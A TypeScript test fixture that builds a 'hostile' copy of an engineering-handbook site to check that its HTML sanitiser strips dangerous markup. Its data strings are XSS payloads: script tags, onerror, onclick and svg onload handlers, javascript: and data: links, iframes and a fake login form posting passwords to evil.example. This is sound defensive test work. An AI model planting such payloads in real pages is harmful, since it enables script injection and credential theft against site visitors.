/**
 * The hostile handbook of the render tests: the valid fixture, with bodies and fields
 * written the way an attacker (or a careless paste) would write them. Each hostile
 * piece is paired with something harmless that must survive, so "remove everything"
 * would not pass either.
 */
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { diagramKey } from '../../src/lib/diagrams/cache.ts';
import { copyHandbook, replaceOnce, validFixture } from '../helpers/fixtures.ts';

/** What a page, feed or email must not carry from the bodies below. */
export const HOSTILE_BODY = [
  'Before the attack. <script>window.__pwned = "inline script"</script>',
  '',
  '<script>window.__pwned = "block script"</script>',
  '',
  '<img src="x.png" onerror="window.__pwned = \'onerror\'" alt="a picture">',
  '',
  '<iframe src="https://evil.example/frame"></iframe>',
  '',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>',
  '',
  '<style>body { display: none }</style>',
  '',
  '<span onclick="window.__pwned = \'onclick\'" onmouseover="steal()">Hover me</span>',
  '',
  '[Click me](javascript:window.__pwned=1) and <a href="JaVaScRiPt:window.__pwned=2">shouting</a> and <a href="  javascript:window.__pwned=3">spaced</a> and <a href="data:text/html,<script>alert(1)</script>">data</a>.',
  '',
  '<details><summary>Still here</summary>',
  '',
  "Kept: <kbd>Ctrl</kbd>, [an apostrophe link](https://example.com/it's-fine), [mail](mailto:team@example.com) and [a relative link](../../teams/platform/).",
  '',
  '</details>',
  '',
  'Comparison operators: a < b && c > d in the excerpt.',
].join('\n');

/** Diagrams of ADR 0002, whose cache entries the setup damages before the build. */
export const CUT_SHORT_DIAGRAM = 'flowchart LR\n  accTitle: Cut short in the cache\n  A[Request] --> B[Cache]';
export const EMPTY_DIAGRAM = 'flowchart LR\n  accTitle: Empty in the cache\n  C[Writer] --> D[Queue]';

const ADR_BODY = [
  '## Context',
  'Time series.',
  '',
  HOSTILE_BODY,
  '',
  '## Decision',
  'Timescale.[^why]',
  '',
  '```mermaid',
  CUT_SHORT_DIAGRAM,
  '```',
  '',
  '```mermaid',
  EMPTY_DIAGRAM,
  '```',
  '',
  '```ts',
  'const answer: number = 42;',
  '```',
  '',
  '| Left | Right |',
  '|:-----|------:|',
  '| a    |     1 |',
  '',
  '## Consequences',
  'One more extension to upgrade.',
  '',
  '[^why]: Because of the aggregates.',
  '',
].join('\n');

const MDX_TALK = `---
title: Hostile <b>MDX</b>
date: 2026-11-05T17:00:00Z
speakers: [alan-turing]
team: platform
durationMinutes: 30
---
An MDX talk with HTML written as JSX. Handlers, frames, scripts and \`javascript:\` links
in MDX never get this far: the content check rejects them (test/trust/mdx.test.ts). What
the check lets through still passes the same sanitiser as Markdown.

<div className="x" id="toc">A div with a class and an id</div>

<a href="https://example.com/mdx">a safe one</a>

\`\`\`mermaid
flowchart TD
  accTitle: MDX diagram
  X[Start] --> Y[End]
\`\`\`
`;

/** A title with a 120-character word: long enough to widen a phone's page, short enough for any sane length limit. */
export const LONG_WORD = 'Carts'.padEnd(120, 'x');
/** A name with a right-to-left override that is never closed. */
export const RLO_NAME = 'Ada \u202ELovelace';
export const MARKUP_NAME = 'Alan <img src=x onerror=alert(1)> Turing';
export const MARKUP_SHIPPED = 'Pooler <img src=x onerror=alert(1)> in staging';
/** A team name with markup and both quotes: text in the team chooser and its section, the connections matrix, its phone list and the map. */
export const MARKUP_TEAM = `Check<b>out</b> "Crew" & 'Co' <img src=x onerror=alert(1)>`;

/** Program fields are plain text, however they are written: shown as written, never as markup. */
export const MARKUP_GOAL = '<script>alert("goal")</script>Learn how <b>checkout</b> retries';
export const MARKUP_OUTCOME = '<img src=x onerror=alert(2)> [a link](javascript:alert(3)) and <a href="javascript:alert(4)">another</a>: retries moved';
export const MARKUP_OPTION = '<script>alert("option")</script>Redis <img src=x onerror=alert(6)> with <b>LRU</b>';
export const MARKUP_OBJECTIVE = 'Profile <iframe src="https://evil.example/"></iframe> the cart';
/** Thanks and an award citation, read out at the all-hands: text, never markup. */
export const MARKUP_FOR = '<script>alert("kudos")</script>Load-testing the <b>cart</b> with us <img src=x onerror=alert(5)>';
export const MARKUP_CITATION = '<a href="javascript:alert(6)">Platform</a> and <i>Checkout</i> <svg onload=alert(7)></svg> did it together';

/** Retrospective and ask fields are plain text too; an ask's body (problem and answer) goes through the sanitiser. */
export const MARKUP_ACTION = '<script>alert("action")</script>Add the <b>cache</b> to the load tests';
export const MARKUP_WENT_WELL = '<img src=x onerror=alert(7)> Flags from the <b>first</b> deploy';
export const MARKUP_ASK_TITLE = 'Cart <iframe src="https://evil.example/"></iframe> queries are slow';
export const MARKUP_ANSWER = 'An <b>N+1</b> query <img src=x onerror=alert(8)> [batched](javascript:alert(9)) away';

/** About 80 KB of an update: four times what a feed item may carry. */
export const LONG_UPDATE_PARAGRAPHS = 800;
const LONG_UPDATE = `---
team: platform
date: 2026-11-13
shipped:
  - A long retrospective
---
${Array.from({ length: LONG_UPDATE_PARAGRAPHS }, (_, i) => `Paragraph ${i + 1} of the retrospective, with enough words to weigh about a hundred bytes.`).join('\n\n')}
`;

/** Copies the valid fixture and makes it hostile; returns the folder holding `content/`. */
export async function hostileHandbook(): Promise<string> {
  const root = await copyHandbook(validFixture, {
    'content/teams/checkout.md': (text) => `${replaceOnce('name: Checkout', `name: '${MARKUP_TEAM.replace(/'/g, "''")}'`)(text)}\n${HOSTILE_BODY}\n`,
    'content/adrs/0002-use-postgres-with-timescale.md': (text) => text.slice(0, text.indexOf('## Context')) + ADR_BODY,
    'content/adrs/0003-cache-carts.md': (text) =>
      replaceOnce(
        'title: Cache carts in Redis',
        `title: ${LONG_WORD}`,
      )(text).replace(
        'feedbackBy: 2026-12-01\n',
        `feedbackBy: 2026-12-01\nconsulted: [platform]\noptions:\n  - id: redis\n    summary: '${MARKUP_OPTION}'\n  - id: in-process\n    summary: In-process cache\n`,
      ),
    'content/talks/2026-11-06-timescale-in-production.md': replaceOnce('What we learned.', `What we learned.\n\n${HOSTILE_BODY}`),
    'content/updates/2026-11-20-platform.md': (text) => `${text.replace('  - Connection pooler in staging', `  - '${MARKUP_SHIPPED}'`)}\n${HOSTILE_BODY}\n`,
    'content/people/ada-lovelace.yaml': replaceOnce('name: Ada Lovelace', `name: "${RLO_NAME}"`),
    'content/people/alan-turing.yaml': replaceOnce('name: Alan Turing', `name: '${MARKUP_NAME}'`),
    'content/rotations/2026-10-05-alan-turing.yaml': (text) =>
      replaceOnce(/outcome: .*/, `outcome: '${MARKUP_OUTCOME}'`)(replaceOnce('  - Learn how checkout retries payments', `  - '${MARKUP_GOAL}'`)(text)),
    'content/pairings/2026-11-12-profile-the-cart-service.yaml': replaceOnce(
      'objective: Profile the cart service together',
      `objective: '${MARKUP_OBJECTIVE}'`,
    ),
    'content/kudos/2026-11-18-the-pooler-for-the-cart-service.yaml': replaceOnce(/for: .*/, `for: '${MARKUP_FOR}'`),
    'content/awards/2026-q4-collaboration-of-the-quarter.yaml': replaceOnce(/citation: .*/, `citation: '${MARKUP_CITATION}'`),
    'content/retros/2026-11-05-cart-cache-rollout.md': (text) =>
      replaceOnce(
        '  - The cache was behind a flag from the first deploy',
        `  - '${MARKUP_WENT_WELL}'`,
      )(replaceOnce('  - title: Add the cache to the load test suite', `  - title: '${MARKUP_ACTION}'`)(text)),
    'content/asks/2026-11-16-slow-cart-queries.md': (text) =>
      replaceOnce(
        /## Answer\n\n.*\n/,
        `## Answer\n\n${MARKUP_ANSWER}\n`,
      )(
        replaceOnce(
          'Cart reads take over a second at lunchtime.',
          `Cart reads take over a second at lunchtime.\n\n${HOSTILE_BODY}`,
        )(replaceOnce('title: Cart queries are slow at peak', `title: '${MARKUP_ASK_TITLE}'`)(text)),
      ),
  });
  await writeFile(path.join(root, 'content/talks/2026-11-05-hostile-mdx.mdx'), MDX_TALK);
  await writeFile(path.join(root, 'content/updates/2026-11-13-platform.md'), LONG_UPDATE);
  return root;
}

/** A diagram cache holding a cut-short SVG for one diagram and an empty file for another. */
export async function damagedCache(cacheDir: string): Promise<{ cutShort: string; empty: string }> {
  const cutShort = path.join(cacheDir, `${diagramKey(CUT_SHORT_DIAGRAM)}.svg`);
  const empty = path.join(cacheDir, `${diagramKey(EMPTY_DIAGRAM)}.svg`);
  // Mermaid names a diagram's root after its key (m<key>): this one is right, only cut short.
  await writeFile(cutShort, `<svg id="m${diagramKey(CUT_SHORT_DIAGRAM)}" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40"><g><rect width="10" height="`);
  await writeFile(empty, '');
  return { cutShort, empty };
}
